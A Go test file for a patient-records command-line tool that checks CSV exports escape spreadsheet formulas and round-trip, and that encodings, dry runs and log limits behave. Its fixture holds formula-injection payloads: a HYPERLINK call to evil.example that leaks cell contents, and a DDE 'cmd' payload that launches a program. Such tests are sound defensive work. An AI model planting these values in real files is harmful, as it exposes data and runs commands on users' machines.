package root

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"unicode/utf16"
)

type shown struct {
	FirstName    string `json:"first_name"`
	LastName     string `json:"last_name"`
	City         string `json:"city"`
	Interactions []struct {
		Summary string `json:"summary"`
		Staff   string `json:"staff"`
	} `json:"interactions"`
}

func (p *practice) show(mrn string) shown {
	p.t.Helper()
	var s shown
	if err := json.Unmarshal([]byte(p.mustRun("show", mrn, "--json")), &s); err != nil {
		p.t.Fatal(err)
	}
	return s
}

func tempFile(t *testing.T, name string, data []byte) string {
	t.Helper()
	path := filepath.Join(t.TempDir(), name)
	if err := os.WriteFile(path, data, 0o600); err != nil {
		t.Fatal(err)
	}
	return path
}

// hostileNames start with every character a spreadsheet takes for a formula,
// as stored; the import file spells a stored leading quote before a
// trigger with one more quote, as an export does.
var hostileNames = [][2]string{
	{`=HYPERLINK("http://evil.example/?"&A1,"Click")`, "+1+1"},
	{"-2+3", "@SUM(A1:A9)"},
	{"'=already quoted", "'-twice"},
	{"=cmd|' /C calc'!A0", "O'Brien"},
}

// Every CSV Carebook writes is safe to open in a spreadsheet, the marketing
// list included, and the export still re-imports without loss.
func TestExportNeutralisesFormulasAndRoundTrips(t *testing.T) {
	p := newPractice(t)
	p.mustRun("init")
	var in strings.Builder
	in.WriteString("Patient ID (MRN),First Name,Last Name,Email,City,Marketing Opt-In\n")
	cw := csv.NewWriter(&in)
	for i, n := range hostileNames {
		first, last := n[0], n[1]
		if i == 2 {
			first, last = "'"+first, "'"+last
		}
		cw.Write([]string{"H" + string(rune('1'+i)), first, last, "h" + string(rune('1'+i)) + "@example.org", "-Town", "yes"})
	}
	cw.Flush()
	p.mustRun("import", "patients", tempFile(t, "hostile.csv", []byte(in.String())))
	for i, n := range hostileNames {
		mrn := "H" + string(rune('1'+i))
		if got := p.show(mrn); got.FirstName != n[0] || got.LastName != n[1] {
			t.Fatalf("%s imported as %q %q, want %q %q", mrn, got.FirstName, got.LastName, n[0], n[1])
		}
	}
	p.mustRun("log", "H1", "--channel", "note", "--summary", "=1+2\tand a tab", "--yes")
	p.mustRun("log", "H2", "--channel", "note", "--summary", "@import", "--yes")

	dir := t.TempDir()
	exports := map[string][]string{
		"patients":     {"export", "patients"},
		"interactions": {"export", "interactions"},
		"marketing":    {"export", "patients", "--profile", "marketing", "--to", "Mailchimp"},
	}
	for name, args := range exports {
		path := filepath.Join(dir, name+".csv")
		p.mustRun(append(args, "-o", path)...)
		data, _ := os.ReadFile(path)
		rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", name, err)
		}
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s export: cell %q would run as a formula", name, cell)
				}
			}
		}
		if name == "marketing" && (len(rows) != len(hostileNames)+1 || !strings.Contains(string(data), "\n\"'=HYPERLINK(")) {
			t.Errorf("marketing list %q, want every patient, names escaped", rows)
		}
	}

	// A new practice imports the export and holds the same values; its
	// export is the same bytes.
	q := newPractice(t)
	q.mustRun("init")
	q.mustRun("import", "patients", filepath.Join(dir, "patients.csv"))
	q.mustRun("import", "interactions", filepath.Join(dir, "interactions.csv"))
	for i, n := range hostileNames {
		mrn := "H" + string(rune('1'+i))
		if got := q.show(mrn); got.FirstName != n[0] || got.LastName != n[1] || got.City != "-Town" {
			t.Errorf("%s after the round trip: %q %q %q, want %q %q -Town", mrn, got.FirstName, got.LastName, got.City, n[0], n[1])
		}
	}
	if got := q.show("H1"); len(got.Interactions) != 1 || got.Interactions[0].Summary != "=1+2\tand a tab" {
		t.Errorf("H1's interaction after the round trip: %+v", got.Interactions)
	}
	for _, kind := range []string{"patients", "interactions"} {
		first, _ := os.ReadFile(filepath.Join(dir, kind+".csv"))
		if second := q.mustRun("export", kind); !bytes.Equal(first, []byte(second)) {
			t.Errorf("%s export differs after a round trip:\n%s\n---\n%s", kind, first, second)
		}
	}
	if help := p.mustRun("export", "--help"); !strings.Contains(help, "single") || !strings.Contains(help, "formula") {
		t.Errorf("export --help does not say how cells are escaped:\n%s", help)
	}
}

func utf16LE(s string) []byte {
	out := []byte{0xFF, 0xFE}
	for _, u := range utf16.Encode([]rune(s)) {
		out = append(out, byte(u), byte(u>>8))
	}
	return out
}

// A Windows-1252 file used to import with exit 0 and empty names.
func TestImportEncodings(t *testing.T) {
	p := newPractice(t)
	p.mustRun("init")
	latin := tempFile(t, "latin.csv", []byte("MRN,First Name,Last Name\nQ1,Jos\xe9,Mu\xf1oz\n"))
	o := p.run("", false, "import", "patients", latin)
	if o.code != 1 || !strings.Contains(o.stderr, "line 2") || !strings.Contains(o.stderr, "--encoding windows-1252") ||
		strings.Count(strings.TrimSpace(o.stderr), "\n") > 0 {
		t.Errorf("import of a Windows-1252 file: exit %d, stderr %q; want 1 and one sentence naming the line and --encoding", o.code, o.stderr)
	}
	if o := p.run("", false, "patients"); o.stdout != "" {
		t.Errorf("the refused file wrote patients: %q", o.stdout)
	}
	p.mustRun("import", "patients", latin, "--encoding", "latin1")
	if got := p.show("Q1"); got.FirstName != "José" || got.LastName != "Muñoz" {
		t.Errorf("latin1 import: %q %q", got.FirstName, got.LastName)
	}

	unicodeText := tempFile(t, "unicode.csv", utf16LE("MRN,First Name,Last Name\r\nQ2,Zoë,Łukasiewicz\r\n"))
	p.mustRun("import", "patients", unicodeText)
	if got := p.show("Q2"); got.FirstName != "Zoë" || got.LastName != "Łukasiewicz" {
		t.Errorf("UTF-16 import: %q %q", got.FirstName, got.LastName)
	}

	if o := p.run("", false, "import", "patients", latin, "--encoding", "ebcdic"); o.code != 2 || !strings.Contains(o.stderr, "windows-1252") {
		t.Errorf("--encoding ebcdic: exit %d, %q; want a usage error listing the encodings", o.code, o.stderr)
	}
	// scan and migrate read the same way.
	if o := p.run("", false, "scan", latin); o.code != 1 || !strings.Contains(o.stderr, "--encoding") {
		t.Errorf("scan of a Windows-1252 file: exit %d, %q", o.code, o.stderr)
	}
	if out := p.mustRun("scan", latin, "--encoding", "windows-1252"); !strings.Contains(out, "First Name") {
		t.Errorf("scan --encoding windows-1252: %q", out)
	}
	if o := p.run("", false, "migrate", latin, "--yes"); o.code != 1 || !strings.Contains(o.stderr, "--encoding") {
		t.Errorf("migrate of a Windows-1252 file: exit %d, %q", o.code, o.stderr)
	}
	p.mustRun("migrate", unicodeText, "--yes")
}

// A dry run used to say "0 new" for 240 new patients; an import named the
// columns it left out only on a terminal, and said nothing of migrate.
func TestImportDryRunAndSkippedColumns(t *testing.T) {
	p := newPractice(t)
	if _, err := os.Stat(fixtureDir); err != nil {
		t.Skip("shared fixtures not found")
	}
	p.mustRun("init")
	path := filepath.Join(fixtureDir, "patients.csv")
	out := p.mustRun("import", "patients", path, "--dry-run")
	if !strings.Contains(out, "240 new, 0 updated, 0 unchanged") {
		t.Errorf("dry run said %q, want 240 new", out)
	}
	if o := p.run("", false, "patients"); o.stdout != "" {
		t.Error("the dry run wrote patients")
	}
	out = p.mustRun("import", "patients", path)
	if !strings.Contains(out, `Columns not imported: "Notes"`) || !strings.Contains(out, "carebook migrate") {
		t.Errorf("import output %q should list the skipped Notes column and point to carebook migrate", out)
	}
	var res struct {
		Skipped []string `json:"skipped_columns"`
	}
	if err := json.Unmarshal([]byte(p.mustRun("import", "patients", path, "--json")), &res); err != nil || len(res.Skipped) != 1 || res.Skipped[0] != "Notes" {
		t.Errorf("--json skipped_columns %v, %v", res.Skipped, err)
	}
}

// The limits hold through the command line: log refuses what import would.
func TestLogLimits(t *testing.T) {
	p := newPractice(t)
	p.mustRun("init")
	p.mustRun("import", "patients", tempFile(t, "p.csv", []byte("MRN,First Name,Last Name\nQ1,Ann,Lee\n")))
	secret := "SECRET" + strings.Repeat("x", 20_000)
	for _, args := range [][]string{
		{"log", "Q1", "--channel", "call", "--summary", secret, "--yes"},
		{"log", "Q1", "--channel", "call", "--summary", "ok", "--at", "0001-01-01", "--yes"},
		{"log", secret[:500], "--channel", "call", "--summary", "ok", "--yes"},
	} {
		o := p.run("", false, args...)
		// A bad flag value is a usage error, which points at the help.
		msg := strings.TrimSuffix(strings.TrimSpace(o.stderr), "\nRun 'carebook log --help' for usage.")
		if o.code == 0 || strings.Contains(o.stderr, "SECRET") || strings.Count(msg, "\n") > 0 {
			t.Errorf("carebook %.40s…: exit %d, stderr %.200q; want one sentence without the value", strings.Join(args, " "), o.code, o.stderr)
		}
	}
	if got := p.show("Q1"); len(got.Interactions) != 0 {
		t.Errorf("interactions written: %+v", got.Interactions)
	}
}
